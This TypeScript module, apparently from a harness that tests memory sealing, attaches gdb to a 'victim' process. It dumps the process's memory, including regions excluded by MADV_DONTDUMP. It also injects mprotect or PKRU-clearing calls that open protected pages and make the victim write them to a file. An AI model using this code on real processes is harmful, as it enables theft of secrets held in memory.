import { constants } from 'node:os'
import { type Addresses, run } from './attacker'

/** Why gdb did not do what it was told. */
export interface GdbFailure {
  reason: string
  errno: string | null
}

interface Told {
  failure: GdbFailure | null
  stdout: string
}

/** `expected`: what gdb prints once it has done all. */
async function gdb(pid: number, commands: readonly string[], expected: (stdout: string) => boolean): Promise<Told> {
  // -nx and no auto-load: nothing of the user's own configuration runs.
  const options = ['-nx', '-q', '-batch', '-iex', 'set auto-load off', '-p', String(pid)]
  const { stdout, stderr, missing } = await run('gdb', [...options, ...commands.flatMap((line) => ['-ex', line])])
  if (missing) return { failure: { reason: 'gdb is not installed', errno: null }, stdout }
  if (expected(stdout)) return { failure: null, stdout }
  if (/Operation not permitted/.test(`${stderr}\n${stdout}`)) {
    return { failure: { reason: 'gdb may not attach', errno: 'EPERM' }, stdout }
  }
  return { failure: { reason: `gdb did not do it: ${stderr.trim().split('\n').at(-1) ?? ''}`, errno: null }, stdout }
}

/** What `gcore` does, and with `everything` `gcore -a`: also what MADV_DONTDUMP and the coredump_filter exclude. */
export async function dumpByGdb(pid: number, path: string, everything: boolean): Promise<GdbFailure | null> {
  const all = everything ? ['set use-coredump-filter off', 'set dump-excluded-mappings on'] : []
  const { failure } = await gdb(pid, [...all, `generate-core-file ${path}`], (stdout) =>
    stdout.includes('Saved corefile'),
  )
  return failure
}

const hex = (value: bigint): string => `0x${value.toString(16)}`

/** How an attacker opens what the victim keeps closed; see probe().sealing. */
export type Opener = 'mprotect' | 'pkey'

function openingOf(opener: Opener, ranges: readonly Addresses[]): string[] {
  // The register of the protection keys: no key is closed.
  if (opener === 'pkey') return ['set $pkru = 0']
  return ranges.map(({ start, end }) => `call (int)mprotect(${hex(start)}, ${end - start}, 3)`)
}

/** What the write(2) of one range came to. */
export interface Written {
  bytes: number
  errno: string | null
}

const nameOf = (number: number): string =>
  Object.entries(constants.errno).find(([, value]) => value === number)?.[0] ?? `errno ${number}`

/**
 * Makes the victim itself write its memory to a file: to the kernel it is the victim's own, rightful access. With `opener`
 * what is closed is opened first. Answers what each write came to.
 */
export async function writeByInjectedCode(
  pid: number,
  path: string,
  ranges: readonly Addresses[],
  opener: Opener | null = null,
): Promise<GdbFailure | readonly Written[]> {
  const opening = opener === null ? [] : openingOf(opener, ranges)
  const writes = ranges.flatMap(({ start, end }) => [
    `set $written = (long)write($fd, ${hex(start)}, ${end - start})`,
    'printf "written: %ld errno: %d\\n", $written, *((int *(*)(void))__errno_location)()',
  ])
  const commands = [`set $fd = (int)creat("${path}", 0600)`, ...opening, ...writes, 'call (int)close($fd)']
  const written = (stdout: string) => [...stdout.matchAll(/^written: (-?\d+) errno: (\d+)$/gm)]
  const { failure, stdout } = await gdb(pid, commands, (text) => written(text).length === ranges.length)
  if (failure !== null) return failure
  return written(stdout).map(([, bytes, errno]) =>
    Number(bytes) < 0 ? { bytes: 0, errno: nameOf(Number(errno)) } : { bytes: Number(bytes), errno: null },
  )
}
